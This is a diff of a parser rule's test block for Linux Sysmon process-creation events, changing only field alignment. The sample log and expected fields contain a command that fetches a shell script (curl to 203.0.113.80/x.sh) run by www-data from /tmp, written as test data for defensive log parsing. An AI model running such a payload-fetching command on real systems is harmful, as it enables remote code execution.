@@ -66,20 +66,20 @@ rule "sysmon-linux-event" {
   }
 
   test {
-    log    = "Jun  4 09:00:00 lnx-web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{00000000-0000-0000-0000-000000000001}\"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2024-06-04T09:00:00.000000000Z\"/><EventRecordID>501</EventRecordID><Correlation/><Execution ProcessID=\"800\" ThreadID=\"800\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-web1</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2024-06-04 09:00:00.000</Data><Data Name=\"ProcessGuid\">{00000000-0000-0000-0000-0000000000aa}</Data><Data Name=\"ProcessId\">4321</Data><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"FileVersion\">-</Data><Data Name=\"Description\">-</Data><Data Name=\"Product\">-</Data><Data Name=\"Company\">-</Data><Data Name=\"OriginalFileName\">-</Data><Data Name=\"CommandLine\">curl -s http://203.0.113.80/x.sh</Data><Data Name=\"CurrentDirectory\">/tmp</Data><Data Name=\"User\">www-data</Data><Data Name=\"LogonGuid\">{00000000-0000-0000-0000-000000000000}</Data><Data Name=\"LogonId\">33</Data><Data Name=\"TerminalSessionId\">4294967295</Data><Data Name=\"IntegrityLevel\">no level</Data><Data Name=\"Hashes\">-</Data><Data Name=\"ParentProcessGuid\">{00000000-0000-0000-0000-0000000000ab}</Data><Data Name=\"ParentProcessId\">4300</Data><Data Name=\"ParentImage\">/bin/sh</Data><Data Name=\"ParentCommandLine\">sh -c curl</Data><Data Name=\"ParentUser\">www-data</Data></EventData></Event>"
+    log             = "Jun  4 09:00:00 lnx-web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{00000000-0000-0000-0000-000000000001}\"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2024-06-04T09:00:00.000000000Z\"/><EventRecordID>501</EventRecordID><Correlation/><Execution ProcessID=\"800\" ThreadID=\"800\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-web1</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2024-06-04 09:00:00.000</Data><Data Name=\"ProcessGuid\">{00000000-0000-0000-0000-0000000000aa}</Data><Data Name=\"ProcessId\">4321</Data><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"FileVersion\">-</Data><Data Name=\"Description\">-</Data><Data Name=\"Product\">-</Data><Data Name=\"Company\">-</Data><Data Name=\"OriginalFileName\">-</Data><Data Name=\"CommandLine\">curl -s http://203.0.113.80/x.sh</Data><Data Name=\"CurrentDirectory\">/tmp</Data><Data Name=\"User\">www-data</Data><Data Name=\"LogonGuid\">{00000000-0000-0000-0000-000000000000}</Data><Data Name=\"LogonId\">33</Data><Data Name=\"TerminalSessionId\">4294967295</Data><Data Name=\"IntegrityLevel\">no level</Data><Data Name=\"Hashes\">-</Data><Data Name=\"ParentProcessGuid\">{00000000-0000-0000-0000-0000000000ab}</Data><Data Name=\"ParentProcessId\">4300</Data><Data Name=\"ParentImage\">/bin/sh</Data><Data Name=\"ParentCommandLine\">sh -c curl</Data><Data Name=\"ParentUser\">www-data</Data></EventData></Event>"
     log_source_type = "syslog"
     expect = {
-      "event.code"                   = "1"
-      "host.name"                    = "lnx-web1"
-      "process.pid"                  = "4321"
-      "process.executable"           = "/usr/bin/curl"
-      "process.command_line"         = "curl -s http://203.0.113.80/x.sh"
-      "process.working_directory"    = "/tmp"
-      "user.name"                    = "www-data"
-      "process.parent.pid"           = "4300"
-      "process.parent.executable"    = "/bin/sh"
-      common_event                   = "Process Created"
-      "observer.vendor" = "Microsoft"
+      "event.code"                = "1"
+      "host.name"                 = "lnx-web1"
+      "process.pid"               = "4321"
+      "process.executable"        = "/usr/bin/curl"
+      "process.command_line"      = "curl -s http://203.0.113.80/x.sh"
+      "process.working_directory" = "/tmp"
+      "user.name"                 = "www-data"
+      "process.parent.pid"        = "4300"
+      "process.parent.executable" = "/bin/sh"
+      common_event                = "Process Created"
+      "observer.vendor"           = "Microsoft"
     }
   }
   test {
